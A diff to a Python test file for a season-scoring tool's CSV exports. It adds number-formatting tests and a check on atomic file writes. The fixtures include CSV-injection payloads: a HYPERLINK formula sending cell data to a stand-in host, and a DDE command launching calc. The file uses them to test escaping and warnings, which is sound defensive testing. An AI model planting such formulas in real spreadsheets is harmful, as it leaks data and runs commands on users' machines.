@@ -2,6 +2,7 @@
 writes (OWASP CSV injection), numbers stay numbers, and `validate` warns about such names."""
 from __future__ import annotations
 
+import ast
 import csv
 from pathlib import Path
 
@@ -17,6 +18,7 @@ HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
 DDE = "+cmd|' /C calc'!A0"
 AT = "@SUM(1+1)"
 JUROR = "=J1+1"
+ROOT = Path(__file__).resolve().parents[2]
 
 
 def _planted(data_dir: Path) -> Path:
@@ -59,6 +61,52 @@ def test_numbers_stay_numbers_in_the_csv() -> None:
     assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://x/?d=""&A2,""Klik"")",-3.5,-4', "-3.5,2.0,5"]
 
 
+
+def test_one_number_policy_by_column_type() -> None:
+    table = pd.DataFrame({
+        "jumlah": [30, -4, 0], "nilai": [30.0, 68.02, float("nan")], "kecil": [1e-7, 1e16, -0.0],
+        "boleh_kosong": pd.array([7, None, 0], dtype="Int64"), "pecahan": pd.array([2.0, None, 0.5], dtype="Float64"),
+        "finalis": [True, False, True],
+    })
+    assert table_csv_text(table, ("finalis",)).splitlines() == [
+        "jumlah,nilai,kecil,boleh_kosong,pecahan,finalis",
+        "30,30.0,1e-07,7,2.0,true", "-4,68.02,1e+16,,,false", "0,,-0.0,0,0.5,true",
+    ]
+
+
+def _expected_cell(value: object, floats: bool) -> str:
+    """The number policy, told independently: floats as repr (whole ones with `.0`), integers as integers."""
+    if pd.isna(value):  # type: ignore[call-overload]
+        return ""
+    return repr(float(value)) if floats else str(int(value))  # type: ignore[call-overload, arg-type]
+
+
+@pytest.mark.parametrize("command", ["score", "gaps", "jury", "awards"])
+def test_every_csv_command_writes_numbers_by_the_one_policy(command: str, small_season: Path, tmp_path: Path) -> None:
+    from paritrana_nb.awards import CSV_COLUMNS
+    from paritrana_nb.engine import score_season
+    from paritrana_nb.gaps import what_it_takes
+    from paritrana_nb.methodology import load_methodology
+    from paritrana_nb.reliability import jury_reliability
+    from paritrana_nb.season import read_season
+
+    out = tmp_path / f"{command}.csv"
+    assert main([command, "--data-dir", str(small_season), "--out", str(out)]) == 0
+    season = read_season(2025, small_season)
+    methodology = load_methodology(ROOT / "params" / "2025" / "metodologi.yaml")
+    scores = score_season(season, methodology)
+    table = {"score": scores.wide, "gaps": lambda: what_it_takes(season, methodology),
+             "jury": lambda: jury_reliability(season, methodology, scores),
+             "awards": lambda: scores.penghargaan[list(CSV_COLUMNS)]}[command]()
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    numeric = [c for c in table.columns if pd.api.types.is_numeric_dtype(table[c]) and table[c].dtype != bool]
+    assert len(rows) == len(table) > 0 and numeric
+    for name in numeric:
+        floats = pd.api.types.is_float_dtype(table[name])
+        assert [row[name] for row in rows] == [_expected_cell(v, floats) for v in table[name]], name
+
+
 @pytest.mark.parametrize(("command", "planted"), [
     ("score", (HYPERLINK, DDE, AT)),
     ("gaps", (HYPERLINK, DDE, AT)),
@@ -80,3 +128,16 @@ def test_validate_warns_about_formula_names(tmp_path: Path, capsys: pytest.Captu
             ("badan_usaha.csv", 2, "nama", AT), ("wawancara.csv", 2, "juri", JUROR)} <= found
     assert main(["validate", "--data-dir", str(tmp_path), "--lang", "en"]) == 0
     assert "Excel would run it as a formula" in capsys.readouterr().out
+
+
+def test_only_outputs_renames_files_into_place() -> None:
+    """One atomic writer: every module writes results through outputs.write_atomic, none renames files itself."""
+    package = ROOT / "paritrana_nb"
+    renames = sorted(
+        f"{path.relative_to(package)}:{node.lineno}"
+        for path in package.rglob("*.py") if path.name != "outputs.py"
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+        if isinstance(node, ast.Attribute) and node.attr in ("replace", "rename")
+        and isinstance(node.value, ast.Name) and node.value.id == "os"
+    )
+    assert renames == []
